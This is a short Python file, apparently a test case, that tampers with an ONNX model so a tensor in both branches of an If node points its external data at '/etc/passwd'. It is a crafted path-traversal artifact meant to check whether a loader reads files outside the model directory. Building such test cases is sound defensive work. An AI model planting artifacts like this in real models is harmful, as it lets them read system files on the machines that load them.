"""A tensor outside of the directory hides in the branch of an If."""

from __future__ import annotations

from pathlib import Path

import hostile
import onnx

CODE = "graph"


def attack(artifact: Path) -> None:
    tensor = onnx.TensorProto(name="x", data_type=1, dims=[1], data_location=1)
    tensor.external_data.add(key="location", value="/etc/passwd")
    branch = onnx.helper.make_graph([], "branch", [], [], [tensor])
    model = onnx.load(artifact / "decode.onnx", load_external_data=False)
    model.graph.node.append(
        onnx.helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)
    )
    hostile.put(artifact, "decode.onnx", model.SerializeToString())
